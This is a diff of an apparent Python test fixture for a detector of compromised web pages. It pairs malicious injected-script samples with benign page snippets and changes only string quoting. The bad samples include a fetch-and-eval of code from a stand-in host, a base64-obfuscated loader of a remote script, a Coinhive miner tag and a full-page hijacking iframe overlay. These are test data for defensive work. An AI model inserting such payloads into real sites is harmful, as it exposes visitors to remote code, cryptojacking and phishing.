@@ -57,7 +57,7 @@ def bad() -> Iterator[Hacked]:
         "fetched and run": "<script>fetch('https://api.yunjs.example/t').then(r=>r.text()).then(t=>eval(t))</script>",
         "made into a function": "<script>new Function(atob('ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPWh0dHA6Ly9qcy5xcDg4LmV4YW1wbGUveC5qcz48L3NjcmlwdD4nKQ=='))()</script>",
         "miner": "<script src='https://coinhive.com/lib/coinhive.min.js'></script><script>new CoinHive.Anonymous('k').start()</script>",
-        "frame written over the page": "<script>document.writeln('<div style=\"position:fixed;left:0;top:0;width:100%;height:100%;z-index:2147483647\"><iframe src=\"https://zhan.example:8443/\" width=\"100%\" height=\"100%\" frameborder=\"0\"></iframe></div>')</script>",
+        "frame written over the page": '<script>document.writeln(\'<div style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:2147483647"><iframe src="https://zhan.example:8443/" width="100%" height="100%" frameborder="0"></iframe></div>\')</script>',
     }
     for name, body in runs.items():
         yield Hacked(name, script, body=body)
@@ -129,7 +129,7 @@ def innocent() -> Iterator[Hacked]:
         "title that runs": "<script>setInterval(function(){document.title=document.title.substring(1)+document.title.charAt(0)},300)</script>",
         "title of the column by script": "<script>document.title=document.getElementById('lm')?'通知公告':'青田县人民政府'</script>",
         "weather in a frame": '<iframe src="https://tianqi.example/w.html" width="280" height="25" scrolling="no" frameborder="0"></iframe>',
-        "own page written over the page": "<script>document.writeln('<div style=\"position:fixed;left:0;top:0;width:100%;height:100%;z-index:9999\"><iframe src=\"/zt/2026/tc.html\" width=\"100%\" height=\"100%\"></iframe></div>')</script>",
+        "own page written over the page": '<script>document.writeln(\'<div style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:9999"><iframe src="/zt/2026/tc.html" width="100%" height="100%"></iframe></div>\')</script>',
         "counter with a link": '<a href="https://www.51.la/?1234" target="_blank" style="display:none">网站统计</a>',
     }
     for name, body in pages.items():
